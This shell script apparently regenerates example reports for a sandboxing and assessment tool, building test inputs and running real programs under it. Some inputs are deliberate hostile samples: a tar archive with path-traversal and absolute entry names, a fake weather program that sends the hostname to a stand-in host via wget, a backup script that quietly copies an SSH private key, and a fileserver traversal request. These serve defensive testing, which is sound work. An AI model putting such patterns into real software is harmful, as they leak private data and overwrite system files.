#!/bin/sh
# examples.sh - makes the reports of this folder again: real programs with real work, assessed and verified.
#
#	sh doc/assess/examples.sh [NAME...]
#
# Inputs are made in build/assess, so that manifests name them the same way on every machine.
set -eu
cd "$(dirname "$0")/../.."
root=$PWD
keros=$root/build/keros
in=$root/build/assess
mkdir -p "$in"
wanted=" $* "

# example NAME OPTION... -- COMMAND...
example() {
	name=$1
	shift
	case $wanted in "  " | *" $name "*) ;; *) return 0 ;; esac
	echo "== $name"
	rm -rf "$root/doc/assess/$name"
	"$keros" assess -o "$root/doc/assess/$name" --verify "$@" </dev/null >"$in/$name.out" 2>"$in/$name.log" || true
	grep '^assess: \(Runs\|Does\|Ended\|with nothing\)' "$in/$name.log" || tail -n 3 "$in/$name.log"
	rm -f "$root/doc/assess/$name/events.jsonl"         # large, and made again in a second
}

# ---- Inputs ----------------------------------------------------------------------------------------------------
rm -rf "$in/tar" "$in/gzip" "$in/build" "$in/site" "$in/db" "$in/lua" "$in/home" "$in/phone" "$in/ash" "$in/cc"
mkdir -p "$in/tar" "$in/gzip" "$in/build/pages" "$in/site/pages" "$in/db" "$in/lua/modules" "$in/home/root/.ssh" \
	"$in/home/root/notes" "$in/phone/bin" "$in/ash/root" "$in/ash/etc" "$in/cc" "$in/site/bin"

# An archive with names that climb and names that are absolute.
python3 - "$in/tar/evil.tar" <<'PY'
import io, sys, tarfile
with tarfile.open(sys.argv[1], "w", format=tarfile.GNU_FORMAT) as t:
    for name in ("good/a.txt", "good/b.txt", "../../climbed.txt", "/etc/cron.d/absolute", "good/../../sideways.txt"):
        data = ("content of %s\n" % name).encode()
        i = tarfile.TarInfo(name)
        i.size = len(data)
        t.addfile(i, io.BytesIO(data))
PY
seq 1 20000 >"$in/gzip/numbers.txt"
for page in index about contact; do
	printf '# %s\nThis is the page *%s*.\n\n- one\n- two\n' "$page" "$page" >"$in/build/pages/$page.md"
	printf '<h1>%s</h1>\n' "$page" >"$in/site/pages/$page.html"
done
cat >"$in/build/build.sh" <<'SH'
#!/bin/sh
# Builds a small site: markdown to HTML, an index, a compressed archive.
set -e
src=${1:-/build/pages} out=$(mktemp -d)
for page in "$src"/*.md; do
	name=$(basename "$page" .md)
	awk '/^# /{print "<h1>" substr($0,3) "</h1>";next} /^- /{print "<li>" substr($0,3) "</li>";next} NF{print "<p>" $0 "</p>"}' "$page" |
		sed 's,\*\([^*]*\)\*,<em>\1</em>,g' >"$out/$name.html"
done
ls "$out" | sed 's,.*,<a href="&">&</a>,' >"$out/list.html"
tar -C "$out" -cf - . | gzip -c >/tmp/site.tar.gz
gzip -dc /tmp/site.tar.gz | tar -tf - | sort
rm -r "$out"
SH
cp "$root/build/programs/fileserver" "$in/site/bin/"
cat >"$in/site/run.sh" <<'SH'
fileserver /tmp/web.sock /site/pages 3 &
fileserver --get /tmp/web.sock /index.html
fileserver --get /tmp/web.sock /about.html
fileserver --get /tmp/web.sock /../run.sh
wait
SH
python3 - "$in/db/shop.db" <<'PY'
import sqlite3, sys
d = sqlite3.connect(sys.argv[1])
d.execute("create table orders(id integer primary key, item text, price real)")
d.executemany("insert into orders(item, price) values(?, ?)", [("item %d" % i, i * 1.5) for i in range(500)])
d.commit()
PY
cat >"$in/lua/main.lua" <<'LUA'
package.path = "/lua/modules/?.lua"
local shapes = require "shapes"
local text = require "text"
print(text.title "areas")
for _, s in ipairs(shapes.all()) do print(s.name, s:area()) end
LUA
cat >"$in/lua/modules/shapes.lua" <<'LUA'
local text = require "text"
local M = {}
function M.all()
	return { { name = text.title "square", area = function() return 4 end }, { name = text.title "disc", area = function() return math.pi end } }
end
return M
LUA
echo 'return { title = function(s) return (s:gsub("^%l", string.upper)) end }' >"$in/lua/modules/text.lua"
cat >"$in/phone/bin/weather" <<'SH'
#!/bin/sh
# Prints the weather, and tells somebody who asked.
wget -q -O /dev/null "http://192.0.2.10:8080/seen?by=$(hostname)" 2>/dev/null
wget -q -O /dev/null http://telemetry.example.com/ping 2>/dev/null
echo "sunny"
SH
chmod +x "$in/phone/bin/weather"
echo 'a private key' >"$in/home/root/.ssh/id_ed25519"
echo 'github.com ssh-ed25519 AAAA' >"$in/home/root/.ssh/known_hosts"
echo 'buy milk' >"$in/home/root/notes/today"
cat >"$in/home/root/backup.sh" <<'SH'
# Saves the notes; and, since one never knows, the keys.
tar -C /root -cf /tmp/backup.tar notes
cat /root/.ssh/id_ed25519 /root/.ssh/known_hosts >>/tmp/extra 2>/dev/null
tar -tf /tmp/backup.tar
SH
echo 'export EDITOR=vi; alias ll="ls -l"' >"$in/ash/root/.profile"
echo 'echo "rc of $USER"' >"$in/ash/root/.ashrc"

# ---- The programs ------------------------------------------------------------------------------------------------
example tar --with tar --ro "$in/tar:/in" --cwd /tmp -- tar -xvf /in/evil.tar
example tar-absolute --with tar --ro "$in/tar:/in" --cwd /tmp -- tar -xvPf /in/evil.tar
example gzip --with gzip --ro "$in/gzip:/data" -- gzip -k -9 /data/numbers.txt
example build --ro "$in/build:/build" -- sh /build/build.sh
example fileserver --tree "$in/site" --ro "$in/site:/site" -- sh /site/run.sh
example sqlite --with sqlite3 --ro "$in/db:/data" -- sqlite3 /data/shop.db \
	"update orders set price = price * 2 where id <= 100; select count(*), sum(price) from orders;"
example lua --with lua5.4 --ro "$in/lua:/lua" -- lua5.4 /lua/main.lua
cc1=$(gcc -print-prog-name=cc1)
cp "$root"/tools/lib/util.c "$in/cc/"
mkdir -p "$in/cc/lib"
cp "$root"/tools/lib/util.h "$in/cc/lib/"
example cc1 --with "$cc1" --ro "$in/cc:/src" --ro /usr/include --ro "$(dirname "$cc1")/include" --mem 512M -- \
	"$cc1" -quiet -imultiarch x86_64-linux-gnu -I /src -O1 /src/util.c -o /tmp/util.s
example phone-home --tree "$in/phone" -- weather
example backup --tree "$in/home" -- sh /root/backup.sh
example ash --tree "$in/ash" --env ENV=/root/.ashrc --env USER=me -- sh -l -i -c 'echo ready'
